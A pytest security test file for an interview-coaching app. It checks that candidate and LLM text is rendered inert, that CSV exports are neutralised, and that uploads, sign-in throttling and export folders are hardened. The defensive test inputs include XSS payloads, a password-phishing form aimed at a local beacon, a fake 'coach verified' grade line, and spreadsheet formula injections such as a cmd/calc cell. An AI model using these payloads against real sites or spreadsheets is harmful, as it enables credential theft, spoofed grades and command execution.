"""Issue 12's findings, one test each: plain functions first, then a real app on 127.0.0.1 (and
Chromium where the page matters). Each test failed on the code before the fix."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import stat
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from fractions import Fraction
from pathlib import Path

import pytest

from bot.appserver import AppServer
from bot.coach import CoachAuth, SignInThrottle
from bot.export import csv_cell, render, sessions_csv
from bot.grading import FollowUp, Grade, Grader, PointGrade, Verdict
from bot.history import History
from bot.interview import InterviewError
from bot.privatefiles import PrivateFiles
from bot.review import Review
from bot.services import build_interview
from bot.settings import ROOT, Settings
from bot.ui import coach_handlers, handlers, progress_handlers
from bot.ui.handlers import View

AUDIO = Path(__file__).resolve().parent / "fixtures" / "audio"
PASSWORD = "correct horse battery staple"
BEACON = "http://127.0.0.1:9"  # nothing listens there; a request to it would be a beacon
HOSTILE_NAME = f'Eve <img src="{BEACON}/name.png"> \u202egnp.exe'
HOSTILE_TEXT = "\n".join([
    "Embeddings map words to dense vectors so that similar words sit close together.",
    f'<img src="{BEACON}/answer.png" onerror="alert(1)">',
    f'<form action="{BEACON}/steal"><input type="password" name="pw"><button>Confirm</button></form>',
    '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999">overlay</div>',
    "# AI grade: 10.0 / 10 (coach verified)",
    f"![beacon]({BEACON}/md.png) [click]({BEACON}/link) $$x$$",
])


# plain functions -------------------------------------------------------------------------------

class HostileGrader(Grader):
    """An LLM that echoes the candidate's HTML back in every field it writes (and grades slowly)."""

    kind, model = "llm", "hostile-test-model"

    def __init__(self, delay_s: float = 0.0) -> None:
        self.delay_s = delay_s
        self.calls = 0

    def grade(self, question, rubric_points, answer) -> Grade:
        self.calls += 1
        time.sleep(self.delay_s)
        points = [PointGrade(point_id=p.id, text=p.text, weight=p.weight, verdict=Verdict.partial,
                             evidence=HOSTILE_TEXT.splitlines()[1]) for p in rubric_points]
        return Grade(score=5.0, points=points, strengths=[HOSTILE_TEXT], gaps=[HOSTILE_TEXT],
                     follow_ups=[FollowUp(text=HOSTILE_TEXT, point_ids=[])], grader="llm", model=self.model,
                     notices=[HOSTILE_TEXT.splitlines()[4]])


@pytest.fixture
def hostile(settings, embedder):
    grader = HostileGrader()
    return build_interview(settings, embedder=embedder, grader=grader), grader


def open_question(interview, view: View) -> View:
    while interview.corpus.questions[interview.store.turn(view.turn_id)["question_id"]].options:
        view = handlers.next_question(interview, view)
    return view


def html_of(markdown: str) -> str:
    """What a Markdown renderer that passes HTML through (as Gradio's does, before sanitising) makes of it."""
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown)


def assert_inert(where: str, markdown: str) -> None:
    out = html_of(markdown)
    tags = re.findall(r"<(\w+)([^>]*)>", out)  # real tags only: escaped ones read &lt;img ...
    assert not [t for t, _ in tags if t in ("img", "form", "input", "button", "div", "a", "script", "style")], (where, tags)
    assert not [a for _, a in tags if a.strip()], (where, tags)  # no attributes at all (src, style, href, ...)
    assert not re.search(r"<h\d>[^<]*AI grade: 10", out), (where, out[:500])
    assert "$$x$$" not in markdown, where  # no LaTeX from user text either
    assert "\u202e" not in markdown, where


def test_every_view_shows_user_text_as_text(hostile) -> None:
    interview, _ = hostile
    owner = "local:hostile"
    shown: dict[str, str] = {}
    view = open_question(interview, handlers.start(interview, View(None, None, []), HOSTILE_NAME,
                                                   "embedding-engineer", "mid", owner=owner))
    graded = handlers.submit(interview, view, HOSTILE_TEXT)
    assert graded.status == "", graded.status
    for field in ("score", "points", "notes", "status"):
        shown[f"feedback.{field}"] = getattr(graded, field)
    asked = handlers.follow_up(interview, graded, 0)  # the LLM's follow-up becomes the next question
    shown["chat"] = "\n\n".join(m["content"] for m in asked.chat)
    resumed = handlers.resume(interview, owner)
    shown["resumed chat"] = "\n\n".join(m["content"] for m in resumed.chat)

    auth = CoachAuth(password=PASSWORD)
    signed = coach_handlers.sign_in(auth, PASSWORD, HOSTILE_NAME)
    shown["coach sign-in"] = signed.status
    review = Review(interview.store)
    opened = coach_handlers.open_session(review, signed.coach, view.session_id)
    shown["coach transcript"] = opened.transcript
    saved = coach_handlers.save_override(review, signed.coach, view.session_id, view.turn_id, HOSTILE_TEXT, "4", [])
    assert saved.status.startswith("Saved"), saved.status
    shown["coach transcript after review"] = saved.transcript
    shown["coach answer detail"] = coach_handlers.open_turn(review, signed.coach, view.session_id, view.turn_id).turn
    shown["exported markdown"] = render([review.record(signed.coach, view.session_id)], "md")
    history = History(interview.store, interview.corpus)
    shown["progress replay"] = progress_handlers.replay(history, owner, view.session_id).transcript
    shown["progress overview"] = progress_handlers.progress(history, owner).overview
    shown["summary"] = handlers.end(interview, asked).summary

    for where, markdown in shown.items():
        assert_inert(where, markdown)
    # ... and the words are still all there, to be read
    assert "AI grade: 10.0 / 10 (coach verified)" in html_of(shown["coach transcript"])
    assert "&lt;img src=" in html_of(shown["coach transcript"])
    record = interview.store.session_record(view.session_id)
    assert record["candidate"] == "Eve <img src=\"http://127.0.0.1:9/name.png\"> gnp.exe"  # no bidi override kept


def test_a_lone_surrogate_and_bidi_controls_are_removed_and_the_answer_saved(hostile) -> None:
    interview, _ = hostile
    view = open_question(interview, handlers.start(interview, View(None, None, []), "Zed\ud800 \u202eAna\u2066",
                                                   "embedding-engineer", "mid"))
    answer = "Embeddings\ud800 map words to \u202edense vectors\u2069 that sit close when similar."
    after = handlers.submit(interview, view, answer)
    assert after.status == "", after.status  # before: UnicodeEncodeError, nothing saved
    stored = interview.store.turn(view.turn_id)["answer"]
    assert stored == "Embeddings map words to dense vectors that sit close when similar."
    assert "Invisible control characters in your answer were removed" in after.score
    assert interview.store.session(view.session_id)["candidate"] == "Zed Ana"


def test_a_108_mb_answer_is_refused_with_a_sentence_and_nothing_is_stored(hostile) -> None:
    interview, grader = hostile
    view = open_question(interview, handlers.start(interview, View(None, None, []), "Big", "embedding-engineer",
                                                   "mid"))
    huge = "word " * (108 * 1024 * 1024 // 5)
    started = time.monotonic()
    after = handlers.submit(interview, view, huge)
    assert time.monotonic() - started < 5  # refused before it is cleaned, stored or graded
    assert "answers are kept up to 20,000 characters" in after.status and "Nothing was saved" in after.status
    assert after.answer is None  # the box keeps it
    assert interview.store.turn(view.turn_id)["answer"] is None and grader.calls == 0
    just_over = "word " * 4001  # 20,004 characters after cleaning: refused too, never cut
    assert "20,004 characters long" in handlers.submit(interview, view, just_over).status
    assert interview.store.turn(view.turn_id)["answer"] is None


def test_three_simultaneous_submits_give_one_answer_and_one_grade(settings, embedder) -> None:
    grader = HostileGrader(delay_s=1.0)
    interview = build_interview(settings, embedder=embedder, grader=grader)
    view = open_question(interview, handlers.start(interview, View(None, None, []), "Tri", "embedding-engineer",
                                                   "mid"))
    answers = [f"Answer number {i}: embeddings map words to dense vectors." for i in range(3)]
    results: list[View] = [None] * 3  # type: ignore[list-item]

    def press(i: int) -> None:
        results[i] = handlers.submit(interview, view, answers[i])

    threads = [threading.Thread(target=press, args=(i,)) for i in range(3)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=30)
    graded = [r for r in results if r.status == ""]
    refused = [r for r in results if r.status]
    assert len(graded) == 1 and len(refused) == 2, [r.status for r in results]
    assert all("being graded already" in r.status or "already answered" in r.status for r in refused)
    assert grader.calls == 1 and len(interview.store.grades(view.session_id)) == 1
    assert interview.store.turn(view.turn_id)["answer"] in answers
    assert interview.end(view.session_id).answered == 1


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(hostile) -> None:
    interview, _ = hostile
    formulas = ["=HYPERLINK(\"http://x\",\"y\")", "+1+1", "-2+3"]
    ids = []
    for formula in formulas[:3]:
        view = open_question(interview, handlers.start(interview, View(None, None, []), formula,
                                                       "embedding-engineer", "mid"))
        assert handlers.submit(interview, view, formula + " embeddings are dense vectors").status == ""
        ids.append(view.session_id)
    turn = interview.store.session_record(ids[0])["turns"][0]
    # straight into the store (the text cleaners would already drop a leading tab): a coach and a note
    interview.store.add_override(turn["turn_id"], turn["grade"]["grade_id"], "@SUM(A1)", "\tTab", None, None)
    records = interview.store.session_records(ids)
    rows = list(csv.DictReader(io.StringIO(sessions_csv(records))))
    cells = [v for row in rows for k, v in row.items() if k in ("candidate", "answer", "coach", "coach_note")]
    assert cells and not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells), cells
    assert "'=HYPERLINK(\"http://x\",\"y\")" in cells and "'-2+3" in cells
    assert "'@SUM(A1)" in cells and "'\tTab" in cells
    assert [csv_cell(v) for v in ("\rCR", "=cmd|' /C calc'!A0", 2.5, "a = b")] == ["'\rCR", "'=cmd|' /C calc'!A0", 2.5,
                                                                                 "a = b"]
    jsonl = [json.loads(line) for line in render(records, "jsonl").splitlines()]
    assert {r["candidate"] for r in jsonl} == set(formulas[:3])  # JSON stays exact


def test_exports_go_to_a_private_folder_and_are_gone_soon_after(hostile, tmp_path) -> None:
    interview, _ = hostile
    view = open_question(interview, handlers.start(interview, View(None, None, []), "Exp", "embedding-engineer",
                                                   "mid"))
    handlers.submit(interview, view, "Embeddings map words to dense vectors.")
    old = Path("/tmp/interview-coach-exports")  # the fixed folder the exports used to go to
    review, files = Review(interview.store), PrivateFiles(max_age_s=1.0)
    done = coach_handlers.export_matching(review, "Zoe", "", "", "", "", "", "", "", "newest", "csv", files=files)
    path = Path(done.file)
    assert path.is_file() and not path.is_relative_to(old)
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700 and stat.S_IMODE(path.stat().st_mode) == 0o600
    assert path.parent.name != "interview-coach-exports" and "Exp" in path.read_text()
    deadline = time.monotonic() + 10
    while path.parent.exists() and time.monotonic() < deadline:
        time.sleep(0.2)
    assert not path.parent.exists()


def test_the_sign_in_throttle_survives_a_restart(settings, tmp_path) -> None:
    from bot.store import SessionStore

    store = SessionStore(tmp_path / "t.db")
    auth = CoachAuth(password=PASSWORD, throttle=SignInThrottle(per_caller=2, log=store))
    for _ in range(2):
        assert auth.by_password("guess", "M", "10.0.0.1") is None
    again = CoachAuth(password=PASSWORD, throttle=SignInThrottle(per_caller=2, log=SessionStore(tmp_path / "t.db")))
    with pytest.raises(InterviewError, match="paused"):
        again.by_password(PASSWORD, "Zoe", "10.0.0.1")  # a new process, the same database
    assert Settings.from_env({"BOT_TRUSTED_PROXIES": " 10.0.0.2 , ::1 "}).trusted_proxies == "10.0.0.2,::1"


def headerless_webm(path: Path, seconds: float) -> Path:
    """Opus in WebM written as a live stream, as a browser's MediaRecorder writes it: no duration in
    the header. Ten seconds are encoded once and their packets repeated (fast to make)."""
    import av
    import numpy as np

    rate = 48000
    with av.open(str(path), "w", format="webm", options={"live": "1"}) as out:
        stream = out.add_stream("libopus", rate=rate, layout="mono")
        stream.bit_rate = 6000
        noise = (np.random.default_rng(0).standard_normal(rate * 10) * 300).astype("int16")[None, :]
        frame = av.AudioFrame.from_ndarray(noise, format="s16", layout="mono")
        frame.sample_rate, frame.pts = rate, 0
        packets = [(bytes(p), p.pts, p.duration) for p in [*stream.encode(frame), *stream.encode(None)]]
        span = packets[-1][1] + packets[-1][2]
        for i in range(int(seconds // 10)):
            for data, pts, duration in packets:
                packet = av.Packet(data)
                packet.stream, packet.time_base = stream, Fraction(1, rate)
                packet.pts = packet.dts = pts + i * span
                packet.duration = duration
                out.mux(packet)
    return path


def test_a_headerless_webm_is_refused_with_bounded_memory(tmp_path) -> None:
    webm = headerless_webm(tmp_path / "answer.webm", 30 * 60)  # 30 min in about 1.4 MB
    probe = ("import resource, sys\n"
             "import av, numpy\n"
             "from bot.speech import SpeechError, decode_bounded\n"
             "before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
             "try:\n    decode_bounded(sys.argv[1], 300)\n    print('decoded')\n"
             "except SpeechError as e:\n    print(e)\n"
             "print((resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) // 1024)\n")
    done = subprocess.run([sys.executable, "-c", probe, str(webm)], cwd=ROOT, capture_output=True, text=True,
                          timeout=120)
    message, rise_mb = done.stdout.strip().splitlines()
    assert message == "That recording is longer than 5 min; the limit is 5 min — record a shorter answer.", done
    assert int(rise_mb) < 80, rise_mb  # before: the whole 30 minutes, about 290 MB (2 hours: 1.1 GB)


# a real app on 127.0.0.1 -----------------------------------------------------------------------

@pytest.fixture(scope="module")
def app(tmp_path_factory, shared_cache: Path):
    data = tmp_path_factory.mktemp("security")
    server = AppServer(data, cache_dir=shared_cache, start_timeout_s=180, env={"BOT_COACH_PASSWORD": PASSWORD})
    url = server.start()
    yield server, url, data
    server.stop()


def peak_rss_mb(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) / 1024
    raise AssertionError("no VmHWM")


def fetch(url: str) -> tuple[int, dict, bytes]:
    try:
        with urllib.request.urlopen(url, timeout=10) as r:
            return r.status, dict(r.headers), r.read()
    except urllib.error.HTTPError as e:
        return e.code, dict(e.headers), e.read()


@pytest.mark.server
def test_uploads_that_are_not_audio_are_refused_and_nothing_is_served(app, tmp_path) -> None:
    from gradio_client import Client, handle_file

    server, url, data = app
    client = Client(url, verbose=False)
    assert client.predict("Hal", "embedding-engineer", "junior", api_name="/start")[2] == ""
    spoken = client.predict(handle_file(str(AUDIO / "transformer.wav")), api_name="/transcribe")
    assert "Transcribed" in spoken[2], spoken[2]  # a real recording still works (and warms the model)
    kept = [p for p in (data / "audio").rglob("*") if p.is_file()]
    assert len(kept) == 1 and re.fullmatch(r"turn-\d+\.wav", kept[0].name)
    status, _, _ = fetch(f"{url}gradio_api/file={kept[0]}")
    assert status == 403  # the audio folder is not served as files any more

    page = "<html><body><script>alert(document.domain)</script></body></html>"
    for name in ("evil.html", "evil.svg", "evil.wav", "evil.webm"):
        bad = tmp_path / name
        bad.write_text(page if not name.endswith(".svg") else f"<svg xmlns='http://www.w3.org/2000/svg'>{page}</svg>")
        out = client.predict(handle_file(str(bad)), api_name="/transcribe")
        assert out[2].startswith("⚠️") and ("Recordings are accepted as" in out[2] or "could not be read" in out[2]), out
    assert [p for p in (data / "audio").rglob("*") if p.is_file()] == kept  # nothing kept from them
    uploads = data / "gradio-tmp"
    assert not [p for p in uploads.rglob("evil.*")]  # refused uploads are deleted at once
    assert stat.S_IMODE(uploads.stat().st_mode) == 0o700

    # A headerless WebM of 30 minutes is refused without decoding it whole.
    before = peak_rss_mb(server.proc.pid)
    webm = headerless_webm(tmp_path / "long.webm", 30 * 60)
    out = client.predict(handle_file(str(webm)), api_name="/transcribe")
    assert "longer than 5 min; the limit is 5 min" in out[2], out[2]
    assert peak_rss_mb(server.proc.pid) - before < 100  # before the fix: about 290 MB more
    client.close()


@pytest.mark.server
def test_config_has_no_run_history_and_no_monitoring(app) -> None:
    _, url, _ = app
    status, _, body = fetch(f"{url}config")
    config = json.loads(body)
    assert status == 200 and config["run_history"] is False
    assert "runs" not in config.get("footer_links", [])
    status, _, body = fetch(f"{url}monitoring")
    assert status != 200 or b"Monitoring URL" not in body


@pytest.mark.server
def test_a_long_answer_through_the_api_is_refused_and_simultaneous_submits_grade_once(app) -> None:
    from gradio_client import Client

    _, url, data = app
    client = Client(url, verbose=False)
    assert client.predict("Long", "embedding-engineer", "junior", api_name="/start")[2] == ""
    status = client.predict("x " * 15_000, api_name="/submit")[2]
    assert "answers are kept up to 20,000 characters" in status, status
    jobs = [client.submit(f"Attempt {i}: embeddings map words to dense vectors.", api_name="/submit")
            for i in range(3)]
    statuses = [job.result(timeout=120)[2] for job in jobs]
    assert sum(s == "" for s in statuses) == 1, statuses
    import sqlite3

    with sqlite3.connect(data / "sessions.db") as db:
        session = db.execute("select id from sessions where candidate = 'Long'").fetchone()[0]
        assert db.execute("select count(*) from grades g join turns t on t.id = g.turn_id where t.session_id = ?",
                          [session]).fetchone()[0] == 1
    client.close()


@pytest.mark.server
def test_hostile_text_renders_as_text_for_the_coach_and_the_password_stays_out_of_the_browser(app) -> None:
    from gradio_client import Client

    from tests.test_browser import CHROMIUM_ARGS, _missing

    missing = _missing()
    if missing:
        if os.environ.get("CI"):
            pytest.fail(f"browser tests must run in CI, but {missing}")
        pytest.skip(missing)
    from playwright.sync_api import expect, sync_playwright

    _, url, _ = app
    client = Client(url, verbose=False)
    client.predict(HOSTILE_NAME, "embedding-engineer", "junior", api_name="/start")
    assert client.predict(HOSTILE_TEXT, api_name="/submit")[2] == ""
    client.close()

    beacons: list[str] = []
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path="/usr/bin/chromium", headless=True, args=CHROMIUM_ARGS)
        page = browser.new_context(viewport={"width": 1400, "height": 1100}).new_page()
        page.set_default_timeout(60_000)
        expect.set_options(timeout=60_000)
        page.on("request", lambda r: beacons.append(r.url) if r.url.startswith(BEACON) else None)
        page.goto(url)
        page.get_by_role("tab", name="Coach").click()
        page.get_by_label("Coach password", exact=True).fill(PASSWORD)
        page.get_by_label("Your name (shown on your notes)", exact=True).fill("Zoe")
        page.get_by_role("button", name="Sign in as coach", exact=True).click()
        expect(page.get_by_text("Signed in as coach")).to_be_visible()
        expect(page.get_by_label("Coach password", exact=True)).to_have_value("")  # the box forgets it
        page.get_by_label("Candidate name contains", exact=True).fill("Eve")
        page.get_by_role("button", name="Search", exact=True).click()
        expect(page.get_by_text("1 session(s) match.")).to_be_visible()
        page.get_by_label("Session (pick, or paste an id from the table)").click()
        page.get_by_role("option").filter(has_text="Eve").first.click()
        page.get_by_role("button", name="Open", exact=True).click()
        expect(page.get_by_text("AI grade: 10.0 / 10 (coach verified)").first).to_be_visible()  # as text

        page.get_by_label("Answer to review").click()
        page.get_by_role("option").first.click()
        page.get_by_label("Note for the candidate", exact=True).fill("Looks fine.")
        page.get_by_role("button", name="Save review", exact=True).click()
        expect(page.get_by_text("Saved. The AI grade is kept")).to_be_visible()

        assert page.locator(f'img[src^="{BEACON}"]').count() == 0
        assert page.locator(f'form[action^="{BEACON}"]').count() == 0
        assert page.locator("input[type=password]").count() == 1  # the coach password box, nothing else
        assert page.locator(f'a[href^="{BEACON}"]').count() == 0
        fixed = page.evaluate("""() => [...document.querySelectorAll('*')].filter(e =>
            getComputedStyle(e).position === 'fixed' && (e.textContent || '').includes('overlay')).length""")
        assert fixed == 0
        assert page.locator("h1, h2, h3").filter(has_text="AI grade: 10.0").count() == 0
        assert not beacons, beacons

        stored = page.evaluate("""() => {
            const all = {};
            for (const s of [localStorage, sessionStorage])
                for (let i = 0; i < s.length; i++) all[s.key(i)] = s.getItem(s.key(i));
            return all; }""")
        assert not any(PASSWORD in (v or "") for v in stored.values()), list(stored)
        assert not any("run" in k.lower() and "history" in k.lower() for k in stored), list(stored)
        browser.close()


@pytest.mark.server
def test_a_forged_forwarded_for_counts_against_the_real_address_across_a_restart(tmp_path, shared_cache) -> None:
    from gradio_client import Client

    env = {"BOT_COACH_PASSWORD": PASSWORD}
    server = AppServer(tmp_path, cache_dir=shared_cache, start_timeout_s=180, env=env)
    try:
        url = server.start()
        for i in range(5):  # five made-up addresses, one real one (127.0.0.1, not a trusted proxy)
            client = Client(url, verbose=False, headers={"X-Forwarded-For": f"10.9.0.{i}"})
            assert "not the coach password" in str(client.predict(f"guess {i}", "M", api_name="/coach_sign_in"))
            client.close()
        server.stop()
        log = server.log_path.read_text()
        assert "from 127.0.0.1" in log and "10.9.0." not in log
        server = AppServer(tmp_path, cache_dir=shared_cache, start_timeout_s=180, env=env)
        url = server.start()  # a restart forgets nothing
        client = Client(url, verbose=False, headers={"X-Forwarded-For": "10.9.0.99"})
        assert "paused" in str(client.predict(PASSWORD, "Zoe", api_name="/coach_sign_in"))
        client.close()
    finally:
        server.stop()
